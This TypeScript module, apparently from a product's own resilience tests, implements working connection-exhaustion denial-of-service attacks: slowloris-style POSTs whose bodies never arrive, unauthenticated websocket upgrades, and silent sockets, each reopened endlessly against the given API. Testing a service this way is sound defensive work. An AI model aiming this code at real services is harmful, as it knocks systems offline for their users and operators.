import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { headOf, type Attack, type Attacker } from './attacks.ts'

/** More than the product takes of all clients. */
const connections = 8_100
/** Connections from it count as another machine's. */
const localAddress = '127.0.0.2'
const atOnce = 200

/** It made way for another one, which happens only while all are taken: any other end has an answer before it. */
const madeWay = (answer: string) => answer === ''
/** Such a connection ends at once, so that never all are taken: what it costs is the look for a session. */
const hasNoSession = (answer: string) => answer.startsWith('HTTP/1.1 401 ')

/**
 * One address asks so often, and each time again when its connection is closed. Says how many connections were lost in the
 * way that shows what the attack is for.
 */
const ask = (
  requestOf: (attacker: Attacker) => string,
  isLost: (answer: string) => boolean,
): Attack =>
  async function takeAllConnections([one]) {
    if (!one) throw new Error('An attacker is needed')
    const { hostname: host, port } = new URL(one.api.origin)
    const request = requestOf(one)
    const open = new Set<Socket>()
    let isOver = false
    let lost = 0
    function again(): void {
      const socket = connect({ host, port: Number(port), localAddress })
      open.add(socket)
      let answer: string | null = null
      socket.once('connect', () => (answer = ''))
      socket.on('error', () => {}).on('data', (chunk) => (answer += chunk.toString('latin1')))
      socket.on('close', () => {
        open.delete(socket)
        if (answer !== null && isLost(answer)) lost += 1
        if (!isOver) setTimeout(again, 100)
      })
      socket.write(request)
    }
    for (let count = 0; count < connections; count += 1) {
      again()
      if (count % atOnce === 0) await delay(5)
    }
    // Waits until the attack has taken hold, which takes many seconds on a busy machine.
    for (let wait = 0; lost === 0 && wait < 300; wait += 1) await delay(100)
    await delay(500)
    return {
      lost: () => lost,
      async stop() {
        isOver = true
        for (const socket of open) socket.destroy()
      },
    }
  }

export const sendNoBodies = ask(
  ({ api, team }) =>
    `${headOf(api, 'POST', `/api/teams/${team.id}/pins`)}Content-Type: application/json\r\nContent-Length: 90\r\n\r\n`,
  madeWay,
)

export const openSocketsWithoutSession = ask(
  ({ api }) =>
    [
      'GET /socket.io/?EIO=4&transport=websocket HTTP/1.1',
      `Host: ${new URL(api.origin).host}`,
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Version: 13',
      'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
      '',
      '',
    ].join('\r\n'),
  hasNoSession,
)

export const sayNothing = ask(() => '', madeWay)
